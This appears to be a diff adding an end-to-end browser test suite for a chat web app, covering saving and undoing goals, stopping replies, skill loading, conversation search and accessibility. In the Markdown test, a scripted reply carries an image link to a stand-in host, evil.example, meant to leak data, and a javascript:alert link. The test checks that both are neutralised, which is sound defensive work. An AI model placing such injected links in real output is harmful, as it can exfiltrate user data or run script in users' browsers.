@@ -1,0 +1,315 @@
+/** The chat, as somebody talks in it: a model that says what a script says, in Chromium. */
+import type { Browser, Locator, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { ensureWebApp } from "../../../packages/server/src/http/build-web-app.ts";
+import { hasChromium, startChromium } from "../../harness/chromium.ts";
+import type { Reply } from "../../harness/scripted-provider/script.ts";
+import {
+  PROVIDER_KEY,
+  type ScriptedProvider,
+  startScriptedProvider,
+} from "../../harness/scripted-provider/scripted-provider.ts";
+import { startTestServer, type TestServer } from "../../harness/test-server.ts";
+import { severeViolations } from "../cards/axe.ts";
+import { openPage } from "../open-page.ts";
+
+const GOALS = { books: { target: 50, done: 17 } };
+
+describe.skipIf(!hasChromium)("the chat in Chromium", () => {
+  let provider: ScriptedProvider;
+  let server: TestServer;
+  let bare: TestServer;
+  let browser: Browser;
+  const faults: string[] = [];
+
+  beforeAll(async () => {
+    await ensureWebApp(() => {});
+    provider = await startScriptedProvider();
+    const env = {
+      ETUI_MODEL: "openai-compatible:play",
+      OPENAI_BASE_URL: `${provider.url}/v1`,
+      OPENAI_API_KEY: PROVIDER_KEY,
+    };
+    [server, bare] = await Promise.all([startTestServer({ env, dispatch: true }), startTestServer()]);
+    browser = await startChromium();
+  }, 120_000);
+  afterAll(async () => {
+    await browser?.close();
+    await Promise.all([server?.close(), bare?.close(), provider?.close()]);
+  });
+
+  const script = (...replies: Partial<Reply>[]) => provider.play("play", { replies });
+
+  async function open(
+    address = "/chat",
+    { on = server, ...options }: NonNullable<Parameters<typeof openPage>[1]> & { on?: TestServer } = {},
+  ) {
+    const page = await openPage({ browser, server: on, faults }, options);
+    page.setDefaultTimeout(15_000);
+    await page.goto(on.url + address);
+    const field = page.getByRole("combobox");
+    await field.waitFor();
+    return { page, field, ...parts(page) };
+  }
+  function parts(page: Page) {
+    const log = page.getByRole("log");
+    return {
+      log,
+      replies: log.getByRole("article", { name: /^(Assistant|助手)$/ }),
+      words: log.getByRole("article", { name: /^(You|你)$/ }),
+      status: page.getByRole("status").filter({ hasText: /answer|回答/ }),
+    };
+  }
+  async function say(field: Locator, text: string) {
+    await field.fill(text);
+    await field.press("Enter");
+  }
+
+  test("a goal is set, shown as a tree, undone, and all of it is there after a reload", async () => {
+    script(
+      {
+        reasoning: "Save first.",
+        calls: [{ tool: "save", arguments: { path: "goals/2026", content: GOALS } }],
+      },
+      { calls: [{ tool: "show", arguments: { kind: "tree", path: "goals/2026", title: "Goals" } }] },
+      { text: "Your goals are **saved**." },
+      { text: "Goals of 2026" },
+    );
+    const { page, field, replies, words } = await open();
+    await say(field, "Set my goals: 50 books");
+    const reply = replies.first();
+    await reply.getByText("Your goals are saved.").waitFor();
+    await reply.getByRole("heading", { name: "Goals" }).waitFor();
+    expect(await reply.getByRole("treeitem").count()).toBeGreaterThan(1);
+    await reply.getByRole("button", { name: /save · goals\/2026/ }).click();
+    await reply.getByText('"target": 50').first().waitFor();
+    expect(page.url()).toMatch(/\/chat\/\w+$/);
+    await page.getByRole("navigation").getByRole("link", { name: /goals/i }).waitFor();
+
+    await page.reload();
+    await words.getByText("Set my goals: 50 books").waitFor();
+    await replies.getByText("Your goals are saved.").waitFor();
+    await replies.getByRole("treeitem").first().waitFor();
+    await replies.getByRole("button", { name: "Undo" }).click();
+    await replies.getByText(/Took back 1 change/).waitFor();
+    expect((await server.call("read_user_data", { path: "goals/2026" })).json.status).toBe("not_found");
+    await page.close();
+  });
+
+  test("a question waits, and the reply goes on with the answer", async () => {
+    script(
+      {
+        calls: [
+          {
+            tool: "ask",
+            arguments: {
+              question: "How did today go?",
+              fields: [{ name: "pages", label: "Pages read", type: "number" }],
+            },
+          },
+        ],
+      },
+      { text: "42 pages, well done." },
+    );
+    const { page, field, replies, status } = await open();
+    await say(field, "Ask me");
+    await replies.getByText("waits for you").waitFor();
+    await status.filter({ hasText: "waits for your answer" }).waitFor({ state: "attached" });
+    await replies.getByLabel("Pages read").fill("42");
+    await replies.getByRole("button", { name: "Submit" }).click();
+    await replies.getByText("42 pages, well done.").waitFor();
+    await page.close();
+  });
+
+  test("a reply is stopped, made anew, and the words before it are said otherwise", async () => {
+    script({ text: "One two three four five six seven eight nine ten.", pace_ms: 120 });
+    const { page, field, replies, words, status } = await open();
+    await say(field, "Count");
+    await replies.getByText(/One/).waitFor();
+    await page.getByRole("button", { name: "Stop" }).click();
+    await replies.getByText("You stopped this answer.").waitFor();
+    await status.filter({ hasText: "The answer was stopped" }).waitFor({ state: "attached" });
+
+    script({ text: "Eleven." });
+    await replies.first().hover();
+    await replies.getByRole("button", { name: "Answer anew" }).click();
+    await replies.getByText("Eleven.").waitFor();
+    expect(await replies.count()).toBe(1);
+
+    script({ text: "Twelve." });
+    await words.first().hover();
+    await words.getByRole("button", { name: "Change and say again" }).click();
+    await page.getByLabel("Your words").fill("Count on");
+    await page.getByRole("button", { name: "Say again" }).click();
+    await replies.getByText("Twelve.").waitFor();
+    expect(await words.allInnerTexts()).toEqual(["Count on"]);
+    await page.close();
+  });
+
+  test("what the provider fails with is said with what to do, and tried again", async () => {
+    script({ fault: { status: 402, message: "Insufficient balance", times: 1 }, text: "Here." });
+    const { page, field, replies } = await open();
+    await say(field, "Hello");
+    await replies
+      .getByRole("alert")
+      .getByText(/no credit left: Insufficient balance/)
+      .waitFor();
+    await replies.getByRole("button", { name: "Try again" }).click();
+    await replies.getByText("Here.").waitFor();
+    await page.close();
+  });
+
+  test("a reply is watched from two tabs and outlives a reload in its midst", async () => {
+    script({ text: "Word by word it is written to its end.", pace_ms: 60 });
+    const one = await open();
+    await say(one.field, "Write");
+    await one.replies.getByText(/Word/).waitFor();
+    const other = await open(new URL(one.page.url()).pathname);
+    await one.page.reload();
+    for (const { replies } of [one, other])
+      await replies.getByText("Word by word it is written to its end.", { exact: true }).waitFor();
+    await one.page.close();
+    await other.page.close();
+  });
+
+  test("Markdown is drawn; what could be loaded from elsewhere is a link", async () => {
+    script({
+      text: "| Week | Pages |\n| --- | ---: |\n| 1 | 120 |\n\n```ts\nconst a = 1;\n```\n\nso $x^2$, at $5\n\n![secret](https://evil.example/?q=data) <b>bold</b> [x](javascript:alert(1))",
+    });
+    const { page, field, replies } = await open();
+    await say(field, "Markdown");
+    await replies.getByRole("cell", { name: "120" }).waitFor();
+    await replies.locator(".hljs-keyword").getByText("const").waitFor();
+    await replies.locator("math").waitFor();
+    expect(await replies.innerText()).toContain("at $5");
+    expect(await replies.locator("img").count()).toBe(0);
+    expect(await replies.getByRole("link", { name: "secret" }).getAttribute("rel")).toContain("noopener");
+    expect(await replies.innerText()).toContain("<b>bold</b>");
+    expect(await replies.locator('a[href^="javascript"]').count()).toBe(0);
+    await page.close();
+  });
+
+  test("a skill that fits is offered before the answer, and loaded on the person's word", async () => {
+    // The loading stands there as if the model had asked for it: what it says then is its second message.
+    script({ text: "Not loaded." }, { text: "Loaded and ready." });
+    const { page, field, replies } = await open("/chat", { locale: "zh-CN" });
+    await page.getByRole("button", { name: /技能预检/ }).click();
+    await say(field, "帮我设定年度目标");
+    const check = page.getByRole("region", { name: /可能用得上/ });
+    await check.getByText("goal_tracking").waitFor();
+    await check.getByRole("button", { name: "加载并继续" }).click();
+    await replies.getByText("Loaded and ready.").waitFor();
+    await replies.getByRole("button", { name: /activate_skills · goal_tracking/ }).waitFor();
+    await page.getByText("技能·goal_tracking", { exact: false }).first().waitFor();
+    const asked = provider.asked.find(
+      ({ lastWords, tools }) => tools.length > 0 && lastWords.includes("帮我设定年度目标"),
+    )!;
+    expect(JSON.stringify(asked.body)).toContain("activate_skills");
+    await page.close();
+  });
+
+  test("declined, the answer goes on without; a mention needs no question", async () => {
+    script({ text: "Without." }, { text: "With." });
+    const { page, field, replies } = await open("/chat", { locale: "zh-CN" });
+    await page.getByRole("button", { name: /技能预检/ }).click();
+    await say(field, "帮我设定年度目标");
+    await page.getByRole("button", { name: "不用，直接继续" }).click();
+    await replies.getByText("Without.").waitFor();
+    expect(await replies.getByText("activate_skills").count()).toBe(0);
+    await page.getByRole("button", { name: /技能预检/ }).click();
+    await field.pressSequentially("用 @goal");
+    await page.getByRole("option", { name: /goal_tracking/ }).waitFor();
+    await field.press("Enter");
+    expect(await field.inputValue()).toBe("用 @goal_tracking ");
+    await field.press("Enter");
+    await replies.getByRole("button", { name: /activate_skills · goal_tracking/ }).waitFor();
+    await page.close();
+  });
+
+  test("without a model every tool is there by its name, and its card stays in the conversation", async () => {
+    const { page, field, log } = await open("/chat", { on: bare });
+    await page.getByText("No model is connected yet.", { exact: false }).waitFor();
+    await field.pressSequentially("/write_user");
+    await page.getByRole("option", { name: /write_user_data/ }).waitFor();
+    await field.press("Enter");
+    const form = page.getByRole("dialog");
+    await form.getByRole("button", { name: "Run" }).click();
+    await form.getByText(/path/).first().waitFor();
+    await form.getByRole("button", { name: /example/i }).click();
+    await form.getByRole("button", { name: "Run" }).click();
+    await log.getByText("Saved 1 place").waitFor();
+    await form.waitFor({ state: "hidden" });
+
+    await field.pressSequentially("/show_card");
+    await field.press("Enter");
+    await form.getByRole("button", { name: /example/i }).click();
+    await form.getByRole("button", { name: "Run" }).click();
+    await log.getByRole("heading", { name: "Today" }).waitFor();
+    await page.getByRole("heading", { level: 1, name: "/ write_user_data" }).waitFor();
+    await page.reload();
+    await log.getByRole("heading", { name: "Today" }).waitFor();
+    await log.getByText("Saved 1 place").waitFor();
+    await page.close();
+  });
+
+  test("conversations are found by what was said, named, put away and deleted", async () => {
+    script({ text: "Noted." });
+    const { page, field, replies } = await open();
+    await say(field, "The heron stood in the river");
+    await replies.getByText("Noted.").waitFor();
+    await page.getByRole("button", { name: "More about this conversation" }).click();
+    await page.getByRole("menuitem", { name: "Rename" }).click();
+    await page.getByLabel("Title").fill("Herons");
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("heading", { level: 1, name: "Herons" }).waitFor();
+
+    await page.getByRole("button", { name: "All conversations" }).click();
+    const list = page.getByRole("dialog", { name: "Conversations" });
+    await list.getByRole("searchbox").fill("heron stood");
+    await list.getByRole("link", { name: /Herons/ }).waitFor();
+    await list.getByRole("button", { name: "Close" }).click();
+
+    await page.getByRole("button", { name: "More about this conversation" }).click();
+    await page.getByRole("menuitem", { name: "Delete" }).click();
+    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
+    await page.getByRole("heading", { level: 1, name: "New conversation" }).waitFor();
+    await page.close();
+  });
+
+  test("words that were not said are there after a reload, and are lost to no failure", async () => {
+    script({ text: "Yes." });
+    const { page, field } = await open();
+    await field.fill("half a thought");
+    await page.reload();
+    await field.waitFor();
+    expect(await field.inputValue()).toBe("half a thought");
+    await page.route("**/messages", (route) => route.abort());
+    await field.press("Enter");
+    await page.getByRole("alert").getByText("This was not said:").waitFor();
+    expect(await field.inputValue()).toBe("half a thought");
+    await page.close();
+  });
+
+  test.each([
+    ["a desk, light, English", {}, "light", "en-GB"],
+    ["a phone, dark, Chinese", { viewport: { width: 390, height: 844 } }, "dark", "zh-CN"],
+  ] as const)("axe finds nothing serious: %s", async (_, options, colorScheme, locale) => {
+    script(
+      { reasoning: "Hm.", calls: [{ tool: "save", arguments: { path: "axe", content: { a: 1 } } }] },
+      { text: "Saved it.\n\n```ts\nconst a = 1; // one\n```" },
+    );
+    const { page, field, replies } = await open("/chat", { ...options, colorScheme, locale });
+    expect(await severeViolations(page)).toEqual([]);
+    await field.fill("/");
+    await page.getByRole("option").first().waitFor();
+    expect(await severeViolations(page)).toEqual([]);
+    await say(field, "Save");
+    await replies.locator(".hljs-keyword").waitFor();
+    expect(await severeViolations(page)).toEqual([]);
+    await page.close();
+  });
+
+  test("nothing broke in the page meanwhile", () => {
+    expect(faults).toEqual([]);
+  });
+});
